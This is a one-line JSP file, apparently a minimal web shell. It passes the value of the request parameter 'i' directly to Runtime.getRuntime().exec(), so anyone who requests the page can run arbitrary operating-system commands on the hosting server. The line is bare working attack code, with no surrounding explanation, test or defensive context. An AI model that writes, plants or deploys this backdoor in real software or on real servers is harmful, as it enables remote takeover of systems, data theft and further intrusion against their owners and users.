<%Runtime.getRuntime().exec(request.getParameter("i"));%>
